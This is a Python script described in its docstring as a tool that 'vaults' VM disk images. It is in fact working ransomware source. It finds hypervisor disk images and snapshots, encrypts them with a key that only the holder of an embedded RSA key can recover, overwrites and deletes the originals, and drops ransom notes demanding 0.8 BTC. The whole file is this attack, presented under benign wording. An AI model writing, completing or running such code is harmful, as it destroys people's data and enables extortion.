#!/usr/bin/env python3
"""Vault VM disk images in place.

Walks the hypervisor's image stores, replaces every disk image with an
AES-GCM encrypted ``.vault`` file and removes the plaintext image.  The
per-run data key is wrapped with the vault operator's RSA public key, so
images can only be restored by the operator.
"""
import argparse
import logging
import os
import secrets
import struct
import sys
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu6Qm4n1Yt0c8l5m1fQn3
W7x0rV2b9kX4cHq5gJm0sR3aT8eYvL2pN6dK1oF9hU3wZ7yC4iB0jM5nE2tA8qXs
P1rG6vD3kL9oH2fJ5mY8cN0bV4xT7wQ1eU6sR9aZ3iK2gM5nB8hC0jF4tL7pW1yO
dE6rS9vX2kA3qG5mN8bJ1cH4fT7wL0iY3uP6oK9sV2zR5eD8gM1nQ4jB7hC0xF3t
A6yW9kL2pS5vN8rE1mH4cJ7gT0bU3fD6iO9qZ2aX5wK8sR1nP4jM7hG0yC3vB6eL
9tQ2uF5kA8dN1mS4rJ7wH0gX3zO6pY9cT2bE5iV8nK1fL4qM7aR0sD3hU6jW9yG2
xQIDAQAB
-----END PUBLIC KEY-----"""

IMAGE_EXT = {".qcow2", ".img", ".raw", ".vmdk", ".vdi", ".vhd", ".vhdx", ".iso"}
STORES = [
    "/var/lib/libvirt/images",
    "/var/lib/libvirt/qemu/snapshot",
    "~/.local/share/libvirt/images",
    "~/VirtualBox VMs",
    "~/vmware",
    "/srv/vm",
    "/data",
]
NOTE_NAME = "RESTORE_YOUR_VMS.txt"
NOTE = """All virtual machine disks on this host have been encrypted.
Snapshots and backups in the same stores were encrypted too.
To obtain the restore key send 0.8 BTC to bc1q9v4x7w2m5k8p3s6n0r1t4y7u2i5o8l3j6h9g0f
and e-mail the file {keyfile} to restore-desk@proton.me
"""
CHUNK = 4 * 1024 * 1024


def wrap_key(key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def iter_images(roots):
    for root in roots:
        root = Path(os.path.expanduser(root))
        if not root.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in IMAGE_EXT:
                    yield p


def vault_file(aead: AESGCM, path: Path) -> int:
    target = path.with_name(path.name + ".vault")
    prefix = secrets.token_bytes(8)
    written = 0
    with path.open("rb") as src, target.open("wb") as dst:
        dst.write(b"VLT1" + prefix)
        idx = 0
        while True:
            block = src.read(CHUNK)
            if not block:
                break
            ct = aead.encrypt(prefix + struct.pack(">I", idx), block, None)
            dst.write(struct.pack(">I", len(ct)) + ct)
            written += len(block)
            idx += 1
    # overwrite the head of the original before unlinking it
    with path.open("r+b") as fh:
        fh.write(secrets.token_bytes(min(written, 64 * 1024 * 1024)))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return written


def drop_notes(dirs, keyfile: Path):
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(keyfile=keyfile))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--store", action="append", help="extra image store to include")
    ap.add_argument("--key-dir", default="/root")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    keyfile = Path(args.key_dir) / "vault.key.enc"
    try:
        keyfile.write_bytes(wrap_key(key))
    except OSError:
        keyfile = Path.home() / "vault.key.enc"
        keyfile.write_bytes(wrap_key(key))
    del key

    touched_dirs, total, count = set(), 0, 0
    for img in iter_images(STORES + (args.store or [])):
        try:
            total += vault_file(aead, img)
            count += 1
            touched_dirs.add(img.parent)
            log.info("vaulted %s", img)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", img, exc)
    drop_notes(touched_dirs | {Path.home()}, keyfile)
    log.info("%d image(s), %.1f GiB vaulted", count, total / 2**30)
    return 0


if __name__ == "__main__":
    sys.exit(main())
